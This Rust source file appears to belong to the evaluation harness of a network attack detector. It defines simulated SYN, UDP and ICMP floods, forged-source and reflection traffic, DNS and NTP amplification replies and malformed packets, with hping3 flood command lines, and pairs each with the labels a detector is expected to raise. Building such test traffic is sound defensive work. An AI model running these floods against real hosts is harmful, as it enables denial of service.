//! Floods of packets: more of them than the host has use for.

use std::net::IpAddr;

use anyhow::Result;

use super::{Attack, Running};
use crate::evaluation::live::forge::{ACK, Dice, SYN, echo, tcp, udp, whole};
use crate::evaluation::live::stage::{ATTACKER_V4, HOST_V4, HOST_V6, Stage};
use crate::evaluation::live::{ANSWER, COOKIES_ALONE};
use crate::frames::checksum;

const HPING: &[&str] = &["hping3"];
const SURGE: &[&str] = &["new_source_surge", "spoofed_source", "traffic_spike"];
const FORGED: &str = "src net 203.0.113.0/24";
const FORGED_V6: &str = "src net 2001:db8:f000::/36";
const FROM_ATTACKER: &str = "src host 198.51.100.201";

/// Seconds that a flood lasts.
const TIME: u64 = 10;

const fn flood(
    name: &'static str,
    what: &'static str,
    kinds: &'static [&'static str],
    start: fn(&Stage) -> Result<Running>,
) -> Attack {
    Attack {
        name,
        what,
        kinds,
        also: SURGE,
        needs: &[],
        packets: FORGED,
        seconds: TIME + 2,
        quick: false,
        answer: ANSWER,
        start,
    }
}

pub const ALL: &[Attack] = &[
    Attack {
        needs: HPING,
        packets: FROM_ATTACKER,
        ..flood(
            "syn-flood",
            "hping3 -S -p 80 -i u200, 5,000 a second from one source",
            &["syn_flood"],
            |stage| hping(stage, "-S -p 80 -i u200 -c 50000"),
        )
    },
    Attack {
        quick: true,
        ..flood(
            "syn-flood-spoofed",
            "5,000 SYNs a second to port 80, each from another forged address and port",
            &["syn_flood"],
            |stage| syns(stage, HOST_V4),
        )
    },
    Attack {
        answer: COOKIES_ALONE,
        ..flood(
            "syn-flood-cookies",
            "the same, answered by SYN cookies without a signature in force",
            &["syn_flood"],
            |stage| syns(stage, HOST_V4),
        )
    },
    Attack {
        packets: FORGED_V6,
        ..flood(
            "syn-flood-spoofed-v6",
            "5,000 SYNs a second over IPv6, each from another /64",
            &["syn_flood"],
            |stage| syns(stage, HOST_V6),
        )
    },
    Attack {
        needs: HPING,
        packets: FROM_ATTACKER,
        ..flood(
            "udp-flood",
            "hping3 --udp -p 5000 -d 200 --flood, from one source to an open port",
            &["udp_flood"],
            |stage| hping(stage, "--udp -p 5000 -d 200 --flood"),
        )
    },
    flood(
        "udp-flood-spoofed",
        "30,000 datagrams a second to port 5000 from forged addresses",
        &["udp_flood"],
        |stage| datagrams(stage, HOST_V4, 30_000),
    ),
    flood(
        "udp-flood-small",
        "5,000 datagrams a second to port 5000 from forged addresses",
        &["udp_flood"],
        |stage| datagrams(stage, HOST_V4, 5_000),
    ),
    flood(
        "udp-flood-ports",
        "30,000 datagrams a second to random closed ports from forged addresses",
        &["udp_flood"],
        |stage| {
            Running::forged(stage, 30_000, 30_000 * TIME, |dice| {
                let from = (dice.stranger(HOST_V4), dice.port());
                udp(from, (HOST_V4, dice.port()), &[7; 200])
            })
        },
    ),
    Attack {
        packets: FORGED_V6,
        ..flood(
            "udp-flood-spoofed-v6",
            "30,000 datagrams a second over IPv6, each from another /64",
            &["udp_flood"],
            |stage| datagrams(stage, HOST_V6, 30_000),
        )
    },
    Attack {
        needs: HPING,
        packets: FROM_ATTACKER,
        quick: true,
        ..flood(
            "icmp-flood",
            "hping3 -1 -i u300, 3,300 echo requests a second from one source",
            &["icmp_flood"],
            |stage| hping(stage, "-1 -i u300 -c 33000"),
        )
    },
    Attack {
        packets: FORGED_V6,
        ..flood(
            "icmp-flood-spoofed-v6",
            "3,000 ICMPv6 echo requests a second, each from another /64",
            &["icmp_flood"],
            |stage| {
                Running::forged(stage, 3_000, 3_000 * TIME, |dice| {
                    let from = dice.stranger(HOST_V6);
                    echo(from, HOST_V6, dice.port(), 1, &[7; 56])
                })
            },
        )
    },
    flood(
        "syn-ack-reflection",
        "3,000 SYN-ACKs a second from ports 80 and 443 of servers that were asked in the host's name",
        &["reflection"],
        |stage| {
            Running::forged(stage, 3_000, 3_000 * TIME, |dice| {
                let port = if dice.below(2) == 0 { 80 } else { 443 };
                let from = (dice.stranger(HOST_V4), port);
                tcp(from, (HOST_V4, dice.port()), SYN | ACK, dice)
            })
        },
    ),
    flood(
        "dns-amplification",
        "3,000 large DNS replies a second that nobody asked for",
        &["amplification"],
        |stage| replies(stage, &[53], 1_200, HOST_V4),
    ),
    flood(
        "ntp-amplification",
        "3,000 NTP replies of 468 bytes a second",
        &["amplification"],
        |stage| replies(stage, &[123], 468, HOST_V4),
    ),
    flood(
        "mixed-amplification",
        "3,000 replies a second of SNMP, ISAKMP, CLDAP, SSDP and memcached servers",
        &["amplification"],
        |stage| replies(stage, &[161, 500, 389, 1900, 11_211], 1_000, HOST_V4),
    ),
    Attack {
        packets: FORGED_V6,
        ..flood(
            "dns-amplification-v6",
            "3,000 large DNS replies a second over IPv6",
            &["amplification"],
            |stage| replies(stage, &[53], 1_200, HOST_V6),
        )
    },
    Attack {
        packets: "src host 198.51.100.1 or src net 127.0.0.0/8 or src net 224.0.0.0/4",
        also: &["malformed", "syn_flood", "traffic_spike"],
        ..flood(
            "spoofed-source",
            "1,000 SYNs a second from addresses that cannot send: the host's own, loopback, multicast",
            &["spoofed_source", "malformed"],
            |stage| {
                Running::forged(stage, 1_000, 1_000 * TIME, |dice| {
                    let last = dice.below(256) as u8;
                    let from = match dice.below(3) {
                        0 => HOST_V4,
                        1 => IpAddr::from([127, 0, 0, last]),
                        _ => IpAddr::from([224, 0, 0, last]),
                    };
                    tcp((from, dice.port()), (HOST_V4, 80), SYN, dice)
                })
            },
        )
    },
    Attack {
        packets: "src net 198.51.100.0/24 and ip[8] = 44",
        also: &["syn_flood"],
        ..flood(
            "spoofed-visitors",
            "200 SYNs a second in the names of eight visitors, from 20 hops farther away",
            &["spoofed_source"],
            |stage| {
                Running::forged(stage, 200, 200 * TIME, |dice| {
                    let from = IpAddr::from([198, 51, 100, 10 + dice.below(8) as u8]);
                    let mut packet = tcp((from, dice.port()), (HOST_V4, 80), SYN, dice);
                    packet[8] = 44;
                    packet[10..12].fill(0);
                    let sum = checksum(&packet[..20]);
                    packet[10..12].copy_from_slice(&sum.to_be_bytes());
                    packet
                })
            },
        )
    },
    Attack {
        also: &[
            "spoofed_source",
            "new_source_surge",
            "port_scan",
            "traffic_spike",
        ],
        ..flood(
            "malformed",
            "1,000 packets a second whose headers contradict themselves",
            &["malformed"],
            |stage| Running::forged(stage, 1_000, 1_000 * TIME, broken),
        )
    },
];

fn hping(stage: &Stage, options: &str) -> Result<Running> {
    let line = format!("timeout {TIME} hping3 -q -n -a {ATTACKER_V4} {options} {HOST_V4}");
    Running::tool(&stage.world.outside, &line)
}

fn syns(stage: &Stage, host: IpAddr) -> Result<Running> {
    Running::forged(stage, 5_000, 5_000 * TIME, move |dice| {
        let from = (dice.stranger(host), dice.port());
        tcp(from, (host, 80), SYN, dice)
    })
}

fn datagrams(stage: &Stage, host: IpAddr, rate: u64) -> Result<Running> {
    Running::forged(stage, rate, rate * TIME, move |dice| {
        udp((dice.stranger(host), dice.port()), (host, 5000), &[7; 200])
    })
}

fn replies(stage: &Stage, from: &'static [u16], length: usize, host: IpAddr) -> Result<Running> {
    Running::forged(stage, 3_000, 3_000 * TIME, move |dice| {
        let port = from[dice.below(from.len() as u64) as usize];
        let to = (host, dice.port());
        udp((dice.stranger(host), port), to, &vec![0x81; length])
    })
}

/// A packet with one thing wrong: a TCP header shorter than the least, a datagram longer than its
/// packet, a TCP header that ends in its middle, a header length of IP that is too small.
fn broken(dice: &mut Dice) -> Vec<u8> {
    let from = dice.stranger(HOST_V4);
    let mut packet = tcp((from, dice.port()), (HOST_V4, 80), SYN, dice);
    match dice.below(4) {
        0 => packet[32] = 0x20,
        1 => {
            packet = udp((from, dice.port()), (HOST_V4, 5000), &[7; 20]);
            packet[24..26].copy_from_slice(&600_u16.to_be_bytes());
        }
        2 => packet = whole(from, HOST_V4, 6, &packet[20..32]),
        _ => packet[0] = 0x43,
    }
    packet
}
